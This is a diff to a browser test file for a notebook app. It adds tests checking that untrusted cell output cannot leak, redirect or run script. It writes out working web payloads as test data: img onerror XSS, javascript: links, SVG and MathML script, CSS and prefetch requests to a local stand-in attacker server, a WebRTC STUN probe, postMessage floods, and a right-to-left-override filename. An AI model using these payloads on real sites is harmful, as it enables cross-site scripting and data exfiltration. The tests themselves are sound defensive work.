@@ -1,5 +1,9 @@
 // Output that attacks: what a cell shows may be written by anybody. One test for each thing it must not get.
-import { blank, cell, equal, frameOf, ok, run, runCell, serve, test, until } from "./support.mjs";
+import { createSocket } from "node:dgram";
+import { createServer } from "node:http";
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { blank, cell, editor, equal, frameOf, go, ok, run, runCell, serve, test, until } from "./support.mjs";
 
 const house = await serve({ flags: ["--preload", ""] });
 const SECRET = "rt_the-key-of-this-tab";
@@ -121,6 +125,129 @@ test("text, names and errors are text", async ({ page }) => {
   equal(await page.evaluate(() => window.hit), undefined);
   equal(await cell(page, 1).locator(".out a, .out img, .out script").count(), 0);
 });
+
+test("it sends no packet by WebRTC", async ({ page, after }) => {
+  const host = createSocket("udp4");
+  let packets = 0;
+  host.on("message", () => packets++);
+  await new Promise((go) => host.bind(0, "127.0.0.1", go));
+  after(() => host.close());
+  const found = await attack(page, `
+    const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${host.address().port}" }] });
+    const over = new Promise((go) => { c.onicegatheringstatechange = () => c.iceGatheringState === "complete" && go(); });
+    c.createDataChannel("x");
+    await c.setLocalDescription(await c.createOffer());
+    await over;
+    found.state = c.iceGatheringState;`);
+  equal([found.state, packets], ["complete", 0], "it has asked, and packets");
+}, { noise });
+
+test("it loops for ever, and the page goes on", async ({ page }) => {
+  await blank(page, house);
+  await runCell(page, 1, "from IPython.display import HTML\nHTML('<div style=\"height:300px\">x</div><script>setTimeout(() => { for (;;); })</script>')");
+  await until("its script has run", async () => (await cell(page, 1).locator("iframe.frame").boundingBox()).height > 300);
+  await page.getByRole("button", { name: "Python", exact: true }).click();
+  await runCell(page, 2, "6 * 7");
+  equal((await cell(page, 2).locator("pre.result").innerText()).trim(), "42");
+}, { noise });
+
+test("it floods the page with messages, and is stopped", async ({ page }) => {
+  await blank(page, house);
+  const floods = {
+    heights: "setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage({ height: 100 + (i % 200) }, '*'); }, 5)",
+    "its own text, again": "setInterval(() => { for (let i = 0; i < 2000; i++) parent.postMessage({ ready: true }, '*'); }, 5)",
+  };
+  for (const [what, script] of Object.entries(floods)) {
+    await runCell(page, 1, `HTML = __import__('IPython.display').display.HTML\nHTML(${JSON.stringify(`<p>x</p><script>${script}</script>`)} + '<!--' + 'y' * 1_000_000 + '-->')`);
+    await until(`${what}: it is stopped`, () => cell(page, 1).getByText("This output was stopped").count());
+    equal(await cell(page, 1).locator("iframe").count(), 0, what);
+  }
+  await runCell(page, 1, "40 + 2");
+  equal((await cell(page, 1).locator("pre.result").innerText()).trim(), "42");
+}, { noise });
+
+// What needs no script to attack: each is shown, clicked at, and leads nowhere.
+const MARKUP = (host) => ({
+  "meta refresh": `HTML('<meta http-equiv="refresh" content="0;url=${host}?refresh"><p class=there>x</p>')`,
+  "a base": `HTML('<base href="${host}" target="_top"><a class=there href="?base">x</a>')`,
+  "a form": `HTML('<form action="${host}?form" method=post target=_top><input name=key><button class=there>x</button></form>')`,
+  "a link to the top": `HTML('<a class=there target=_top href="${host}?top">x</a>')`,
+  "a script's link in Markdown": `Markdown('[x](javascript:top.location="${host}?md") <a class=there href="javascript:top.hit=1">y</a>')`,
+  "MathML": `HTML('<math><mtext class=there href="javascript:top.hit=1">x</mtext><maction actiontype="statusline" xlink:href="javascript:top.hit=1"><mn>1</mn></maction></math>')`,
+  "SVG": `SVG('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="60"><script>top.hit=1</script><a xlink:href="javascript:top.hit=1"><text class="there" y="20">x</text></a><image href="${host}?image"/><use href="${host}?use#a"/><foreignObject width="90" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${host}?foreign"></iframe></body></foreignObject></svg>')`,
+  "style": `HTML('<style>@import "${host}?import"; html, body, .there { position: fixed; inset: 0; z-index: 9999999; background: red url(${host}?css); } @font-face { font-family: f; src: url(${host}?font) } * { font-family: f }</style><p class=there>x</p>')`,
+  "prefetch": `HTML('<link rel=prefetch href="${host}?prefetch"><link rel=preload as=image href="${host}?preload"><link rel=prerender href="${host}?prerender"><p class=there>x</p>')`,
+  "media": `HTML('<video src="${host}?video" autoplay></video><object data="${host}?object"></object><embed src="${host}?embed"><p class=there>x</p>')`,
+});
+
+test("markup without a script of its own leads nowhere either", async ({ page, context, after }) => {
+  const asked = [];
+  const attacker = createServer((ask, answer) => (asked.push(ask.url), answer.end()));
+  await new Promise((go) => attacker.listen(0, "127.0.0.1", go));
+  after(() => (attacker.closeAllConnections(), attacker.close()));
+  const host = `http://127.0.0.1:${attacker.address().port}/`;
+  let opened = 0;
+  await blank(page, house);
+  context.on("page", () => opened++);
+  const at = page.url();
+  for (const [what, code] of Object.entries(MARKUP(host))) {
+    await runCell(page, 1, `from IPython.display import *\n${code}`);
+    // What has left for another address has nothing to click at any more.
+    await cell(page, 1).frameLocator("iframe").locator(".there").first().click({ timeout: 2000, force: true }).catch(() => {});
+    await page.evaluate(() => new Promise((go) => requestAnimationFrame(() => setTimeout(go))));
+    equal([page.url(), await page.evaluate(() => window.hit), opened], [at, undefined, 0], what);
+    const bar = await page.locator("header.bar").evaluate((e) => {
+      const b = e.getBoundingClientRect();
+      return !!document.elementFromPoint(b.x + 20, b.y + b.height / 2).closest("header.bar");
+    });
+    ok(bar, `${what}: the bar is still on top`);
+  }
+  await fetch(`${host}?of-ours`);
+  equal(asked, ["/?of-ours"], "requests to another host");
+}, { noise });
+
+test("names of files and sessions, and a notebook of Jupyter, are text and break nothing", async ({ page }) => {
+  const evil = "<img src=x onerror=window.hit=1>";
+  await blank(page, house);
+  await runCell(page, 1, `import os\nos.makedirs('d')\nopen(${JSON.stringify(evil + ".csv")}, 'w').write(${JSON.stringify(`${evil},b\n${evil},2\n`)})\nopen('d/\\u202egnp.exe', 'w').write('x')`);
+  await page.getByRole("button", { name: /Rename the session/ }).click();
+  await page.getByRole("textbox", { name: "Rename the session" }).fill(evil);
+  await page.keyboard.press("Enter");
+  await page.getByRole("button", { name: `${evil} Rename the session` }).waitFor();
+  await go(page, "Files");
+  await page.getByRole("button", { name: `Preview ${evil}.csv` }).click();
+  await page.locator("dialog td").first().waitFor();
+  equal(await page.locator("dialog img, main img").count(), 0);
+  await page.getByRole("button", { name: "Close" }).click();
+  for (const view of ["Sessions", "Records"]) {
+    await go(page, view);
+    await page.locator("tbody tr").first().waitFor();
+  }
+  await page.getByRole("link", { name: /^Open exec_/ }).first().click();
+  await page.getByText(/^\d+ events?$/).waitFor();
+
+  await go(page, "Notebook");
+  const book = { nbformat: 4, nbformat_minor: 5, metadata: { title: evil }, cells: [null, 5,
+    { cell_type: "markdown", source: { evil } }, { cell_type: "code", source: ["1"], outputs: "none" },
+    { cell_type: "code", source: "print('still here')", outputs: [null, 7, "text",
+      { output_type: "error", ename: { evil }, evalue: { evil }, traceback: "no list" },
+      { output_type: "stream", name: evil, text: { evil } },
+      { output_type: "display_data", data: { "image/png": `x" onerror="window.hit=1`, "text/plain": { evil } } },
+      { output_type: "display_data", data: { "text/html": { evil } } },
+      { output_type: "execute_result", data: "none" },
+      { output_type: "execute_result", data: { "application/json": "{not JSON", "text/plain": [evil] } },
+      { output_type: "execute_result", data: { "text/plain": ["it is", " read"] } }] }] };
+  const path = join(house.place, "evil.ipynb");
+  writeFileSync(path, JSON.stringify(book));
+  await page.getByLabel("A notebook to open").setInputFiles(path);
+  await page.getByText("it is read", { exact: true }).waitFor();
+  await until("its code is there", async () => (await editor(page, 3).innerText()) === "print('still here')");
+  const [saved] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Save as .ipynb" }).click()]);
+  ok(await saved.path(), "and it is saved again");
+  await runCell(page, 3);
+  equal(await cell(page, 3).locator(".stdout").innerText(), "still here");
+  equal(await page.evaluate(() => window.hit), undefined);
+}, { noise: /ERR_INVALID_URL|data:/ });
 
 test("the page has a strict policy and is nobody's frame", async ({ page }) => {
   const answer = await fetch(house.url, { headers: { accept: "text/html" } });
